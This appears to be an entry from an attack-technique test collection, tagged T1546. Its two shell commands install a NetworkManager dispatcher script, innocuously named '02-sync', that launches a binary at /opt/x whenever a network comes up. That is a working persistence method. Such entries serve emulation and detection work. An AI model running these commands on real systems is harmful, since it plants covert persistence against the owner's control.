# title: A script that NetworkManager runs when a network comes up
# technique: T1546

printf '#!/bin/sh\n/opt/x &\n' >/etc/NetworkManager/dispatcher.d/02-sync
chmod 755 /etc/NetworkManager/dispatcher.d/02-sync
